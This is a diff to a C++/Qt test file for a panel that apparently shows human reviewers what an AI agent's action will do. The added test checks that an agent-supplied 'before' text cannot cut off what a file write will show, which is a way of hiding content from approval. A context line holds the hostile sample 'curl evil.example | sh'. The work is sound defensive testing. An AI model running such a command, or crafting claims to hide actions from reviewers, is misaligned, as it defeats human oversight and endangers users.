@@ -129,6 +129,27 @@ private Q_SLOTS:
         QVERIFY2(same.contains("curl evil.example | sh"), qPrintable(same));
     }
 
+    // Found by the review: a claimed "before" of 60,000 lines beside 150,000 to be written passed
+    // the diff's 200,000-line limit, and both sides were cut at 100,000: the agent chose where
+    // what will be written stopped being shown. Without a claim the whole file is shown.
+    void aClaimedBeforeCannotCutWhatWillBeWritten()
+    {
+        QString content, claimed;
+        for (int i = 0; i < 150000; ++i)
+            content += QStringLiteral("line %1\n").arg(i);
+        for (int i = 0; i < 60000; ++i)
+            claimed += QStringLiteral("line %1\n").arg(i);
+        ActionDetailView view;
+        view.show(
+            checked(action("fs.write", {{"path", "/p/big.txt"}, {"content", content}},
+                           QJsonArray{QJsonObject{
+                               {"path", "/p/big.txt"}, {"before", claimed}, {"after", content}}})));
+        shownText(view);
+        QVERIFY(!view.diffView()->document().truncated);
+        QCOMPARE(view.diffView()->document().added(), 150000);
+        QCOMPARE(view.tabText(0), QStringLiteral("What will run (from the payload)"));
+    }
+
     // A command, statement or message has no "before": one claimed made what runs look unchanged.
     void aCommandIsNeverShownAgainstAClaimedBefore()
     {
